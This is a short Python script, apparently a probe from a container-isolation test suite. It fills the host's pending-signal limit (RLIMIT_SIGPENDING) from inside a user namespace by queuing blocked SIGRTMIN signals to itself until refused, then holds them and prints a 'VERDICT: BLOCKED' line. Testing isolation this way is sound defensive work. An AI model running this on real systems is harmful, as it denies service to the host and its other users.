"""Attack (denial of service across the boundary): queued real-time signals are charged to RLIMIT_SIGPENDING
of the user at every level of the user-namespace chain, so signals queued here also count against host
root's budget (ulimit -i). Block SIGRTMIN, queue it to ourselves until refused, say so, hold.
argv[1]: seconds to hold."""
import ctypes
import os
import signal
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)


class SigVal(ctypes.Union):
    _fields_ = [("i", ctypes.c_int), ("p", ctypes.c_void_p)]


signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
n = 0
while n < 1_000_000 and libc.sigqueue(os.getpid(), signal.SIGRTMIN, SigVal(0)) == 0:
    n += 1
with open("/tmp/held", "w") as f:
    f.write(str(n))
print(f"BLOCKED: holding {n} queued signals (the host checks its own)")
print("VERDICT: BLOCKED", flush=True)
time.sleep(float(sys.argv[1]))
